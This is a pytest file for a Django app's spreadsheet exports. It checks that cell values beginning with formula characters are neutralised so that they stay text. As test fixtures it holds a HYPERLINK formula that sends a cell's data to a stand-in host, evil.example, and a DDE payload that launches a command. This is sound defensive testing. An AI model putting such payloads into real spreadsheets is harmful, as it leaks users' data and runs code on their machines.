"""Spreadsheets the app writes show hostile text as text: no cell becomes a formula."""

import datetime as dt
import io
from decimal import Decimal

import openpyxl
import pytest
from django.urls import reverse

from rutan.spreadsheets import safe_cell
from rutan.workbooks import HEADER_ROW
from tests.factories import ParticipantFactory
from tests.rehab.reports_fixture import NOVEMBER
from tests.rehab.reports_fixture import build_known_month

HOSTILE = '=HYPERLINK("http://evil.example/?d="&A2,"Klik")'


@pytest.mark.parametrize("prefix", ["=", "+", "-", "@", "\t", "\r"])
def test_it_neutralises_every_formula_prefix(prefix):
    assert safe_cell(prefix + "1+1") == "'" + prefix + "1+1"


@pytest.mark.parametrize(
    "value", [-5, 3, 2.5, Decimal("-1.5"), dt.date(2025, 11, 5), None, True, "Blok A", ""]
)
def test_it_leaves_numbers_dates_and_plain_text_alone(value):
    assert safe_cell(value) == value


@pytest.mark.django_db
def test_the_participant_export_reads_back_a_formula_name_as_text(client, petugas):
    ParticipantFactory(facility=petugas.facility, name=HOSTILE, cell_block="+SUM(A1:A9)")
    client.force_login(petugas)
    response = client.get(reverse("participants:export"))
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    first = HEADER_ROW + 1
    row = list(sheet.iter_rows(min_row=first, max_row=first))[0]
    name, block = row[2], row[5]
    assert name.data_type == "s" and name.value == "'" + HOSTILE
    assert block.data_type == "s" and block.value == "'+SUM(A1:A9)"
    assert isinstance(row[4].value, dt.datetime)  # the birth date stays a date


@pytest.mark.django_db
def test_the_monthly_report_workbook_keeps_numbers_and_neutralises_text(
    client, kepala, facility, other_facility
):
    build_known_month(facility, other_facility)
    facility.name = "=cmd|' /C calc'!A0"
    facility.save()
    client.force_login(kepala)
    response = client.get(
        reverse("rehab:report_monthly_xlsx", args=[facility.code, NOVEMBER.year, NOVEMBER.month])
    )
    workbook = openpyxl.load_workbook(io.BytesIO(response.content))
    cells = [cell for sheet in workbook for row in sheet.iter_rows() for cell in row]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    subtitle = workbook.worksheets[0]["A2"].value
    assert subtitle.startswith("'=cmd")
    assert any(cell.data_type == "n" and isinstance(cell.value, int) for cell in cells)
